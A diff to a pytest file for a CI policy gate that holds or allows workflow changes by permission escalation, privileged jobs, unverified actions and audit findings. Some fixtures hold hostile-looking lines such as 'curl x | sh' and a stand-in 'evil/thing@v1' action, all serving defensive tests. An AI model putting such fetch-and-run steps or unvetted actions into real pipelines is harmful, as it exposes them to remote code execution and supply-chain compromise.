@@ -11,7 +11,16 @@ from pathlib import Path
 import pytest
 
 from gate.model import Budgets, ChangeStatus, Decision, InventoryEntry, PolicySpec
-from gate.policy import RULES, PinTags, TagAnswer, Thresholds, evaluate
+from gate.policy import (
+    RULES,
+    AuditFinding,
+    CiAudit,
+    CiFiles,
+    PinTags,
+    TagAnswer,
+    Thresholds,
+    evaluate,
+)
 from gate.policy.testing import shadowed_module
 
 _STATUS = {
@@ -88,6 +97,7 @@ def judge(
     tree_files: Mapping[bytes, bytes] | None = None,
     thresholds: Thresholds | None = None,
     pin_tags: PinTags | None = None,
+    ci: CiFiles | None = None,
 ) -> tuple[Decision, set[str], tuple[str, ...]]:
     r = evaluate(
         [c.entry for c in changes],
@@ -96,6 +106,7 @@ def judge(
         tree_files=tree_files,
         thresholds=thresholds,
         pin_tags=pin_tags,
+        ci=ci,
     )
     return r.decision, {f.rule for f in r.findings}, tuple(f.message for f in r.findings)
 
@@ -115,9 +126,34 @@ class Case:
     tree_files: Mapping[bytes, bytes] | None = None
     thresholds: Thresholds | None = None
     pin_tags: PinTags | None = None
+    ci: CiFiles | None = None
 
 
 A, H, D = Decision.ALLOW, Decision.HOLD, Decision.DENY
+_WF = b".github/workflows/ci.yml"
+_WORKFLOW = (
+    "on: push\npermissions: {{contents: {perm}}}\njobs:\n  t:\n    runs-on: ubuntu-latest\n"
+    "    steps:\n      - uses: {uses}\n      - run: {run}\n"
+)
+
+
+def _wf(perm: str = "read", uses: str = "actions/setup-python@v5", run: str = "make") -> bytes:
+    return _WORKFLOW.format(perm=perm, uses=uses, run=run).encode()
+
+
+def _ci_case(
+    old: bytes, new: bytes, rule: str, hit: bool, decision: Decision, audit: CiAudit | None = None
+) -> Case:
+    """A one-workflow change with both sides' files (SPEC §2.1)."""
+    gone = [ln for ln in old.decode().split("\n") if ln not in new.decode().split("\n")]
+    came = [ln for ln in new.decode().split("\n") if ln not in old.decode().split("\n")]
+    files = CiFiles(base={_WF: old}, head={_WF: new}, audit=audit or CiAudit())
+    return Case((chg(_WF, added=came, deleted=gone),), rule, hit, decision, ci=files)
+
+
+_INJECTION = AuditFinding(
+    ident="template-injection", path=_WF, route=("jobs", "t", "steps", 1), line=8, message="x"
+)
 _ACTION_BUMP = chg(
     ".github/workflows/ci.yml",
     deleted=["      - uses: actions/checkout@" + "1" * 40 + " # v4.2.2"],
@@ -144,18 +180,50 @@ CASES: dict[str, Case] = {
     "config-lookalike-is-not-config": Case(
         (chg(".github/proofgate.yml.example", added=["x"]),), "gate-config-changed", False, A
     ),
-    # ci-workflow-changed
-    "workflow-edited": Case(
+    # SPEC §2.1: without both sides' workflow files what a change grants cannot be read
+    # (tests/unit/test_policy_ci.py judges them with the files)
+    "workflow-edited-unread": Case(
         (chg(".github/workflows/ci.yml", added=["run: curl x | sh"]),),
-        "ci-workflow-changed",
+        "ci-privilege-changed",
         True,
         H,
     ),
-    "nested-action-yaml": Case(
+    "nested-action-yaml-unread": Case(
         (chg("tools/release/action.yaml", "A", added=["runs: {}"]),),
-        "ci-workflow-changed",
+        "ci-privilege-changed",
         True,
         H,
+    ),
+    "read-only-step-edited": _ci_case(_wf(), _wf(run="make test"), "ci-workflow-changed", True, A),
+    "read-only-step-edited-is-not-privileged": _ci_case(
+        _wf(), _wf(run="make test"), "ci-privileged-job-changed", False, A
+    ),
+    "read-only-step-edited-grants-nothing": _ci_case(
+        _wf(), _wf(run="make test"), "ci-privilege-changed", False, A
+    ),
+    "write-permission-added": _ci_case(_wf(), _wf("write"), "ci-privilege-changed", True, H),
+    "write-job-step-edited": _ci_case(
+        _wf("write"), _wf("write", run="make test"), "ci-privileged-job-changed", True, H
+    ),
+    "new-action-repository-by-tag": _ci_case(
+        _wf(), _wf(uses="evil/thing@v1"), "ci-action-unverified", True, H
+    ),
+    "tag-bump-of-a-used-action": _ci_case(
+        _wf(), _wf(uses="actions/setup-python@v6"), "ci-action-unverified", False, A
+    ),
+    "new-audit-finding": _ci_case(
+        _wf(), _wf(run="make test"), "ci-audit-finding", True, H, CiAudit(head=(_INJECTION,))
+    ),
+    "audit-finding-the-base-had": _ci_case(
+        _wf(),
+        _wf(run="make test"),
+        "ci-audit-finding",
+        False,
+        A,
+        CiAudit(base=(_INJECTION,), head=(_INJECTION,)),
+    ),
+    "gitlab-ci-is-not-read": Case(
+        (chg(".gitlab-ci.yml", added=["script: curl x | sh"]),), "ci-privilege-changed", True, H
     ),
     "docs-about-workflows": Case(
         (chg("docs/workflows/ci.md", added=["text"]),), "ci-workflow-changed", False, A
@@ -1186,6 +1254,7 @@ def test_rule_case(case: Case) -> None:
         tree_files=case.tree_files,
         thresholds=case.thresholds,
         pin_tags=case.pin_tags,
+        ci=case.ci,
     )
     assert (case.rule in rules) is case.hit, messages
     assert decision is case.decision, messages
